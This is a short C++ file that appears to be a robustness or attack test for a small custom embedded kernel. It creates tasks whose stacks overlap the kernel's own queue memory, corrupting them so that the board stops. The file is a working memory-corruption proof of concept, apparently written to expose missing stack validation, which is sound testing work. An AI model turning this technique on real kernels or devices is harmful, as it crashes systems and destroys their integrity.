// SPDX-License-Identifier: MIT
// create() takes a stack that lies over the kernel's own queues, and paints them: the board ends.
// Issue: Kernel.
#include "attack.hpp"

void attack() {
  const word begin = reinterpret_cast<word>(&the_kernel);
  for (word at = begin + 128; at < begin + sizeof the_kernel; at += 128) {
    const kernel::task_description over_queues{3, be_idle, nullptr, reinterpret_cast<void*>(at), 128, "child", false};
    kernel::create(over_queues);
  }
  kernel::sleep(baton::milliseconds(3));
  kernel::wait_interrupt_event(3, baton::milliseconds(1));
}

int main() {
  return run_attack();
}
